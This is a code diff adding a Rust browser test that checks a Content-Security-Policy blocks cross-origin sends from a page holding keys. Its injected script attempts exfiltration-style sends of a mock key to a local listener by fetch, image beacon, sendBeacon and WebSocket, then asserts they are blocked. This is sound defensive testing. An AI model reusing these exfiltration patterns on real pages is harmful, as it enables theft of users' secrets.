@@ -403,3 +403,90 @@ async fn rtas_journey(b: &Browser, url: &str) -> Result<()> {
     b.screenshot("rtas").await?;
     Ok(())
 }
+
+/// The Content-Security-Policy enforces the invariant in the browser: on the page that holds the
+/// keys, a script that tries to send something to another origin (`fetch`, an image beacon,
+/// `sendBeacon`, a WebSocket) is stopped by the browser, and nothing reaches the other origin,
+/// while requests to Veil's own server still work.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+#[ignore = "needs Chromium: run by `cargo xtask test`"]
+async fn the_browser_blocks_sending_to_another_origin() -> Result<()> {
+    let mode = GpuMode::from_env();
+    let server = start_server().await?;
+    let addr = server.addr;
+    // Another origin (another port): it records any connection that reaches it.
+    let other = std::net::TcpListener::bind("127.0.0.1:0")?;
+    other.set_nonblocking(true)?;
+    let other_url = format!("http://127.0.0.1:{}/collect", other.local_addr()?.port());
+    let browser = Browser::start(mode).await?;
+    let result = csp_journey(&browser, &format!("http://{addr}/keys.html"), &other_url).await;
+    if result.is_err() {
+        let _ = browser
+            .screenshot(&format!("failure-csp-{}", mode.expected_backend()))
+            .await;
+    }
+    browser.close().await?;
+    result?;
+    match other.accept() {
+        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => Ok(()),
+        Ok((_, from)) => anyhow::bail!("the other origin received a connection from {from}"),
+        Err(e) => Err(e.into()),
+    }
+}
+
+async fn csp_journey(b: &Browser, url: &str, other: &str) -> Result<()> {
+    let c = &b.client;
+    c.goto(url).await?;
+    b.wait_for(
+        "the page to load",
+        "return document.readyState === 'complete' ? true : null;",
+        LONG,
+    )
+    .await?;
+    let out = c
+        .execute_async(
+            r#"
+            const [other, done] = arguments;
+            (async () => {
+              const violations = [];
+              document.addEventListener('securitypolicyviolation',
+                (e) => violations.push(e.effectiveDirective));
+              const tryIt = async (f) => { try { await f(); return 'sent'; } catch (e) { return `blocked (${e.name})`; } };
+              const fetched = await tryIt(() => fetch(other, { method: 'POST', body: 'a key', mode: 'no-cors' }));
+              const image = await new Promise((resolve) => {
+                const i = new Image();
+                i.onload = () => resolve('loaded');
+                i.onerror = () => resolve('blocked');
+                i.src = `${other}.png?key=secret`;
+              });
+              let beacon;
+              try { beacon = navigator.sendBeacon(other, 'a key') ? 'queued' : 'refused'; } catch (e) { beacon = `blocked (${e.name})`; }
+              const socket = await tryIt(() => new Promise((resolve, reject) => {
+                const ws = new WebSocket(other.replace('http', 'ws'));
+                ws.onopen = resolve;
+                ws.onerror = () => reject(new Error('socket'));
+              }));
+              const own = (await fetch('/api/health')).status;
+              await new Promise((r) => setTimeout(r, 500));
+              done({ fetched, image, beacon, socket, own, violations });
+            })();
+            "#,
+            vec![serde_json::json!(other)],
+        )
+        .await?;
+    eprintln!("cross-origin attempts: {out}");
+    assert!(
+        out["fetched"].as_str().unwrap_or("").starts_with("blocked"),
+        "{out}"
+    );
+    assert_eq!(out["image"], "blocked", "{out}");
+    assert!(
+        out["socket"].as_str().unwrap_or("").starts_with("blocked"),
+        "{out}"
+    );
+    assert_eq!(out["own"], 200, "{out}");
+    let violations: Vec<String> = serde_json::from_value(out["violations"].clone())?;
+    assert!(violations.iter().any(|v| v == "connect-src"), "{out}");
+    assert!(violations.iter().any(|v| v == "img-src"), "{out}");
+    Ok(())
+}
